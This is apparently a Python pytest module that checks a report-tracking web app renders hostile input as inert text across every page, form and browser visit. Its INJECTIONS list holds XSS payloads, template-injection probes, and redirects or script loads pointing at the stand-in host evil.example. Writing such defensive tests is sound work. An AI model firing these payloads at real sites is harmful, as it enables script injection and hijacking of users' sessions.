"""Reports that try to become markup, scripts or addresses stay text on every page."""

from __future__ import annotations

import time
from dataclasses import replace
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Dialog, sync_playwright
from starlette.testclient import TestClient

from onrecord.desk.app import create_app
from onrecord.desk.asked import ONE, SEVERAL
from onrecord.desk.settings import Settings
from onrecord.ledger import Ledger
from onrecord.model.claim import Place, Review, Side, Teller
from onrecord.model.document import Document
from tests.accounts.examples import READING, claim, count
from tests.commands.fakes import fake_pipeline
from tests.desk.browser import QUIET, chromium, listening
from tests.desk.conftest import client_of
from tests.desk.page import ADDRESSES, Page, parsed

INJECTIONS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "'><b onmouseover='alert(1)",
    "</title><script src=//evil.example/x.js></script>",
    "</textarea></pre><iframe srcdoc='<script>alert(1)</script>'>",
    "javascript:alert(1)",
    "{{ 7*7 }}{% raw %}${7*7}",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<!-- --><math><mi xlink:href=javascript:alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<div hx-get='//evil.example' hx-trigger=load>",
    "\u202egnp.exe\u202c \u2066y\u2069 \x1b[31m",
    "]]><x xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script>",
)
TAGS = {"iframe", "object", "embed", "base", "math", "style", "img", "x"}
# No percent sign: the client of the tests takes an address apart twice; servers don't.
ID = "evil-<b>'\"&?#"


def evil(number: int, words: str) -> tuple[Document, list]:  # type: ignore[type-arg]
    document = Document(
        id=f"{ID}{number}",
        text=f"Before. {words} took the town. After.\n{words}\n",
        title=words,
        publisher=words,
        published=f"2031-05-{number % 28 + 1:02}",
        url="https://x.example/?" + words.replace(" ", "+"),
        authors=(words,),
        credit=words,
        language=words,
        extractor=words,
    )
    side = Side(name=words, parties=(words,), kind="armed group", role=words)
    found = []
    for kind, mode in (("control", "captured"), ("casualties", None), ("attack", "shelling")):
        made = claim(document, kind, f"{words} took the town", mode=mode, manner="direct")
        found.append(
            replace(
                made,
                speaker=side,
                actor=side,
                target=side,
                via=(Teller(name=words),),
                counts=(
                    count(3, words, approx=words, of=words),
                    count(4, "killed", of=words, measure="total"),
                ),
                where=(Place(name=words, within=(words,), admin1=words, country="XX"),),
                reviews=(
                    Review(verdict="accepted", reviewer=words, at="2031-06-01", digest="0", note=words),
                ),
            )
        )
    return document, found


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> TestClient:
    path: Path = tmp_path_factory.mktemp("hostile") / "evil.db"
    with Ledger(path) as book:
        for number, words in enumerate(INJECTIONS):
            document, found = evil(number, words)
            book.add(document, found, READING)
            book.fail(words + str(number), f"{words}: it can't be read")
    return client_of(create_app(path, Settings()))


def pages(client: TestClient) -> list[str]:
    """All pages that show words of the reports."""
    lists = ["/", "/claims", "/documents", "/events", "/tolls", "/control", "/disputes", "/sources"]
    found = client.get("/api/claims?limit=500").json()["items"]
    claims = [f"/claims/{each['id']}" for each in found]
    reports = {link for link in parsed(client.get("/documents").text).links if link.startswith("/documents/")}
    asked = [
        f"/claims?text={words}"
        for words in ("script", "<script>alert(1)</script>", '"><svg/onload=alert(1)>')
    ]
    return [
        *lists,
        "/?published_since=2031-05-01&published_until=2031-05-30",
        *claims,
        *sorted(reports),
        *asked,
    ]


def test_injections_in_every_field_stay_text(hostile: TestClient) -> None:
    looked_at = pages(hostile)
    assert len(looked_at) > 60
    for path in looked_at:
        answer = hostile.get(path)
        assert answer.status_code in (200, 400), path
        page = parsed(answer.text)
        check_inert(page, path)
        assert {each.get("http-equiv") for each in page.all("meta")} == {None}, path
        assert "\u202e" not in answer.text
        assert "\x1b" not in answer.text
        assert "49$" not in page.text


def test_documents_with_odd_ids_open(hostile: TestClient) -> None:
    links = {link for link in parsed(hostile.get("/documents").text).links if link.startswith("/documents/")}
    assert len(links) == len(INJECTIONS)
    assert {hostile.get(link).status_code for link in links} == {200}


def check_inert(page: Page, path: str) -> None:
    """Hold that a page has no element, attribute or address that the desk does not write itself."""
    for tag, attributes in page.elements:
        assert tag not in TAGS, (path, tag)
        assert not [name for name in attributes if name.startswith("on") or name in ("style", "srcdoc")], path
        for name in ADDRESSES:
            address = (attributes.get(name) or "").strip().lower()
            assert not address.startswith(("javascript:", "data:", "//")), (path, address)
            if tag != "a" and name in attributes:
                assert address.startswith(("/", "#")), (path, tag, address)
    assert all((each.get("src") or "").startswith("/assets/") for each in page.all("script")), path


@pytest.mark.parametrize("path", ["/", "/claims", "/documents", "/events", "/tolls", "/control", "/disputes"])
def test_what_is_asked_for_comes_back_as_text(hostile: TestClient, path: str) -> None:
    for words in INJECTIONS:
        for name in (*SEVERAL, *ONE, "page", "after"):
            answer = hostile.get(path, params={name: words})
            assert answer.status_code in (200, 400, 404)
            check_inert(parsed(answer.text), f"{path}?{name}={words}")


def test_addresses_of_nothing_come_back_as_text(hostile: TestClient) -> None:
    for words in INJECTIONS:
        for folder in ("", "claims/", "documents/", "add/", "claims/export/"):
            answer = hostile.get(f"/{folder}{quote(words, safe='')}")
            assert answer.status_code == 404
            check_inert(parsed(answer.text), folder + words)


def test_what_is_sent_comes_back_as_text(tmp_path: Path) -> None:
    desk = create_app(tmp_path / "new.db", Settings(additions=1_000), open_pipeline=fake_pipeline)
    with client_of(desk) as client:
        for words in INJECTIONS:
            form = parsed(client.get("/add").text).form()
            sent = {"form": form, "text": f"{words} 12 people were killed.", "publisher": words}
            files = [
                ("files", (f"{words}.txt", f"{words} 7 people were killed.".encode(), "text/plain")),
                ("files", (f"{words}.png", b"\x89PNG\r\n\x1a\n\x00\x00", "image/png")),
            ]
            answer = client.post("/add", data=sent, files=files)
            assert answer.status_code == 303
            page = client.get(answer.headers["location"]).text
            for _ in range(200):
                if "hx-get" not in page:
                    break
                time.sleep(0.02)
                page = client.get(answer.headers["location"]).text
            check_inert(parsed(page), words)
            for bad in ({"published": words}, {"url": words}):
                answer = client.post("/add", data={"form": form, **bad})
                assert answer.status_code in (303, 400)
                check_inert(parsed(answer.text), words)
        for path in ("/", "/claims", "/documents", "/sources"):
            check_inert(parsed(client.get(path).text), path)


def test_a_browser_runs_nothing_of_what_reports_say(hostile: TestClient) -> None:
    where = chromium()
    said: list[str] = []

    def opened(dialog: Dialog) -> None:
        said.append(dialog.message)
        dialog.dismiss()

    with (
        listening(hostile.app) as address,  # type: ignore[arg-type]
        sync_playwright() as playwright,
    ):
        browser = playwright.chromium.launch(executable_path=where, args=list(QUIET))
        page = browser.new_context(base_url=address).new_page()
        page.on("dialog", opened)
        page.on("pageerror", lambda error: said.append(str(error)))
        page.on("console", lambda line: said.append(line.text) if line.type == "error" else None)
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        looked_at = pages(hostile)
        for path in [*looked_at[:12], *looked_at[12 :: len(looked_at) // 24]]:
            page.goto(path)
            page.wait_for_load_state("networkidle")
        browser.close()
    # Reading the words of a filter as a question may fail; the browser notes that the page says so.
    assert [line for line in said if "400" not in line] == []
    assert [url for url in asked if not url.startswith(address)] == []
